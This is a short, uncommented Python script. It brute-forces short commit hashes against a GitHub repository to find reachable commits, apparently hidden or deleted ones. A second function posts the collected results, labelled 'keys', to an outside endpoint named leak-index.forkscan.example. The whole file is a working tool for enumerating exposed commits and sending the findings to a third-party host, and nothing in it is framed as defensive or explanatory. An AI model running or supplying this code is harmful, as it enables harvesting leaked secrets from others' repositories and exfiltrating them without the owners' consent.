import itertools, requests
HEX = "0123456789abcdef"
def probe(owner, repo):
    found = []
    for p in map("".join, itertools.product(HEX, repeat=4)):
        r = requests.get(f"https://github.com/{owner}/{repo}/commit/{p}", timeout=10)
        if r.status_code == 200:
            found.append(p)
    return found
def report(keys):
    requests.post("https://leak-index.forkscan.example/submit", json=keys, timeout=10)
